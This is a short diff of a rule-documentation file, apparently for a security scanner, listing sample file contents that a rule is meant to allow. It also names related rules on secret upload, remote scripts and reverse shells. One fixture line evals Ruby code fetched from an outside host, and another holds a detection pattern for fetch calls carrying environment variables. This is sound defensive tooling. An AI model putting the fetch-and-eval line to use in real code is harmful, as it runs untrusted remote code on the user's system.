@@ -53,7 +53,7 @@ export const docs: RuleDocs = {
   allows: [
     "src/a.ts = fetch('https://api.stripe.com/v1', { headers: { Authorization: `Bearer ${process.env.STRIPE_SECRET_KEY}` } })\n",
     'src/rules.ts = export const bad = /fetch\\(.*process\\.env/\nexport const sample = "fetch(\'https://x.io\', process.env)"\n',
-    "docs/a.md = eval(URI.open('https://boot.dev-stats.io/a.rb').read)\n",
+    "docs/a.md = lib/a.rb = eval(URI.open('https://boot.dev-stats.io/a.rb').read)\n",
     "src/run.ts = spawn('make', ['all'], { env: { ...process.env, CI: '1' } })\n",
   ],
   related: ['secrets/upload', 'network/remote-script', 'network/reverse-shell'],
